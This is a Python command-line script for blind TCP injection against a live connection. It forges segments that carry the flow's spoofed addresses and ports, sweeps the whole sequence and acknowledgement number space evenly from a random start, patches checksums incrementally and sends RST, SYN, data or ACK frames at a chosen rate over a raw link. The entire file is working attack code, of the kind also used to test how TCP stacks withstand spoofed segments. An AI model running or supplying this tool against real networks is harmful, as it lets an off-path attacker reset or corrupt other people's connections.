"""Shoots segments with a live flow's addresses and ports and guessed sequence numbers at one end of it.

usage: blind-segments.py INTERFACE FROM FROM-PORT TO TO-PORT KIND RATE COUNT SEED [MAC]
KIND: rst, syn, data or ack. MAC: of the next host, on an Ethernet link. Guesses cover the whole space of sequence and acknowledgement evenly from a random start
(Roberts' R2 sequence), as somebody would who has never heard the flow and wants the most from his packets.
"""
import random
import socket
import struct
import sys

from wire import RawLink, folded, ip_header, report, tcp_octets

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
BITS = {"rst": RST, "syn": SYN, "data": PSH | ACK, "ack": ACK}
PAYLOAD = b"forged by somebody who never heard this flow"
# 1/g and 1/g² of the plastic number g: two-dimensional low discrepancy (Roberts 2018).
STEPS = (int(0.7548776662466927 * 2**32), int(0.5698402909980532 * 2**32))


def guesses(seed):
    random.seed(seed)
    sequence, acknowledgement = random.getrandbits(32), random.getrandbits(32)
    while True:
        yield sequence, acknowledgement
        sequence = (sequence + STEPS[0]) & 0xFFFFFFFF
        acknowledgement = (acknowledgement + STEPS[1]) & 0xFFFFFFFF


def frames(link, ends, kind, seed):
    """One frame after another: a template, of which only the numbers and the checksum change."""
    source, target, ports = ends
    segment = tcp_octets(source, target, ports, (0, 0), BITS[kind], PAYLOAD if kind == "data" else b"")
    frame = bytearray(link.frame(ip_header(source, target, len(segment)) + segment))
    tcp = len(frame) - len(segment)
    blank = struct.unpack_from("!H", frame, tcp + 16)[0] ^ 0xFFFF
    has_acknowledgement = BITS[kind] & ACK != 0
    for sequence, acknowledgement in guesses(seed):
        if not has_acknowledgement:
            acknowledgement = 0
        total = blank + (sequence >> 16) + (sequence & 0xFFFF) + (acknowledgement >> 16) + (acknowledgement & 0xFFFF)
        struct.pack_into("!II", frame, tcp + 4, sequence, acknowledgement)
        struct.pack_into("!H", frame, tcp + 16, folded(total) ^ 0xFFFF)
        yield frame


if __name__ == "__main__":
    interface, source, source_port, target, target_port, kind, rate, count, seed = sys.argv[1:10]
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    link = RawLink(interface, *sys.argv[10:11])
    ends = (socket.inet_pton(family, source), socket.inet_pton(family, target), (int(source_port), int(target_port)))
    report(link.shoot(frames(link, ends, kind, int(seed)), int(rate), int(count)))
